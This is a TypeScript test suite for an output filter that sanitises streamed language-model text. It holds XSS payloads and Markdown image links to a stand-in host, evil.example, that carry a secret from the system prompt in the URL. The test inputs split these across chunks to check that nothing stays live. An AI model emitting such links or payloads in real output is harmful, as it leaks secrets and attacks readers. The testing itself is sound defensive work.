import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { Call } from '../../engine/call.js';
import type { GuardSession } from '../../engine/guard.js';
import { anonymous } from '../../engine/principal.js';
import { assertGrowsLinearly } from '../../growth.testing.js';
import { DEFAULT_APP, parsePolicy, policyOfApp } from '../../policy/parse-policy.js';
import { noLedger, silentLogger, systemClock, webRandom, type Ports } from '../../ports.js';
import { createEgressGuard } from './guard.js';

const SECRET = 'WINTER-COMET-4471-ALPHA-BRAVO';
const ports: Ports = { clock: systemClock, random: webRandom, logger: silentLogger, ledger: noLedger, secret: new Uint8Array(32), limits: undefined as never };
const policy = policyOfApp(parsePolicy({ egress: { html: 'safe' } }), DEFAULT_APP);

function opened(): GuardSession | undefined {
  assert.ok(policy);
  const source = JSON.stringify({ model: 'claude-haiku-4-5', max_tokens: 9, system: `The code of the board is ${SECRET}.`, messages: [{ role: 'user', content: 'hi' }] });
  return createEgressGuard({ app: DEFAULT_APP, policy, ports })?.open(new Call({ id: 'c', principal: anonymous, app: DEFAULT_APP, endpoint: 'messages', at: 0, source }));
}

/** What is shown of the texts of one answer, each given in pieces. */
function shown(...texts: readonly (string | readonly string[])[]): string[] {
  const session = opened();
  return texts.map((text, index) => {
    const filter = session?.text?.({ index, kind: 'text' });
    assert.ok(filter);
    return [text].flat().map((piece) => filter.push(piece)).join('') + filter.flush();
  });
}

test('nothing is live in texts put together that is inert in one', () => {
  for (const [first, second, live] of [
    ['<', 'img src=x onerror=alert(1)>', /<img/],
    ['a <', 'script>alert(1)//', /<script/],
    ['!', '[x](https://evil.example/p.png)', /!\[x\]\(https/],
    ['![x', '](https://evil.example/p.png)', /!\[x\]\(https/],
    ['[x', '](javascript:alert(1))', /\]\(javascript/],
    ['[x]', '(javascript:alert(1))', /\]\(javascript/],
    ['[x](java', 'script:alert(1))', /\]\(javascript/],
    ['[x]', ': javascript:alert(1)', /\]: javascript/],
    [`[x](htt`, `ps://evil.example/?q=${SECRET})`, /BRAVO/],
    [`https://evil.example/?q=${SECRET.slice(0, 13)}`, `${SECRET.slice(13)} `, /BRAVO/],
    ['```\ncode\n', '```\n![x](https://evil.example/p.png)\n```', /!\[x\]\(https/],
    // Put together with a line break between them.
    ['```\ncode', '```\n![x](https://evil.example/p.png)\n```', /!\[x\]\(https/],
    // Shown one by one.
    ['```\ncode\n', '![x](https://evil.example/p.png)', /!\[x\]\(https/],
  ] as const) assert.doesNotMatch(shown(first, second).join(''), live, first);
});

test('what follows a notice begins anew', () => {
  assert.doesNotMatch(shown(`https://evil.example/?q=${SECRET}`, 'http', `s://evil.example/?q=${SECRET}`).join(''), /BRAVO/);
});

test('a notice in the place of a link is no name that a later line gives an address', () => {
  assert.doesNotMatch(shown(`!https://evil.example/?q=${SECRET} \n\n[link removed]: https://evil.example/p.png`).join(''), /!\[/);
});

test('texts that point nowhere stay as they are, however they are cut', () => {
  for (const texts of [
    ['As https://news.example/a', ', which says', ' **x**', '!\n\n', '- [a](https://docs.example', '/b) and [c]', '(https://docs.example/d)', '. 1 <', ' 2'],
    ['Look:\n\n', '```html\n<script src="app.js"></script>\n```', '\n\nand `<b>`', '.\n```\n![x](https://a.example)\n```'],
    ['over HTTP', '-based', ' wh', 'at [', '1', ']', ': yes', '\\', 'a', '~', '\n', '\n'],
  ]) assert.deepEqual(shown(...texts), texts);
});

test('a declaration that is not closed ends with its text', () => {
  for (const [first, inert] of [['a <!-- b', 'a &lt;!-- b'], ['<?x', '&lt;?x'], ['<![CDATA[', '&lt;![CDATA[']] as const) {
    assert.deepEqual(shown(first, ' --> ?> >'), [inert, ' --> ?> >']);
  }
  const whole = '<!-- b --> <?x ?> <!doctype html>';
  assert.deepEqual(shown(whole, whole), [whole, whole]);
});

test('many texts that end within a declaration take linear time', async () => {
  for (const text of ['<!', '<?']) await assertGrowsLinearly(text, 400, (count) => Array.from({ length: count }, () => text), (texts) => shown(...texts));
});

test('a text that comes within another is read by itself', () => {
  const session = opened();
  const outer = session?.text?.({ index: 0, kind: 'text' });
  const inner = session?.text?.({ index: 1, kind: 'text' });
  assert.equal((outer?.push('[a](htt') ?? '') + (inner?.push('b') ?? '') + (inner?.flush() ?? '') + (outer?.flush() ?? ''), '[ab](htt');
});

test('what is shown of two texts, together or alone, is what is shown of it when it comes again', () => {
  const piece = fc.constantFrom('<', '>', '!', '[', 'x', ']', '(', ')', `https://evil.example/?q=${SECRET}`, 'http', 's://evil.example/p.png', '//evil.example/p', 'javascript:alert(1)', '\n', '\n\n', '```\n', '`', '``', '~~~\n', '    ', '- ', '> ', 'img src=x onerror=alert(1)', 'script', '\\', ':', '"', ' ', '<div>', '</div>', `www.evil.example/${SECRET}`, '#', '&lt;');
  const text = fc.array(piece, { maxLength: 10 });
  fc.assert(
    fc.property(text, text, (first, second) => {
      const whole = first.join('') + second.join('');
      // What of one text by itself is changed a second time is not this test's matter.
      fc.pre([whole, first.join(''), second.join('')].every((one) => isSteady(shown(one).join(''))));
      const both = shown(first, second);
      for (const one of [both.join(''), ...both]) assert.equal(shown(one).join(''), one);
    }),
    { numRuns: 2_000 },
  );
});

function isSteady(text: string): boolean {
  return shown(text).join('') === text;
}
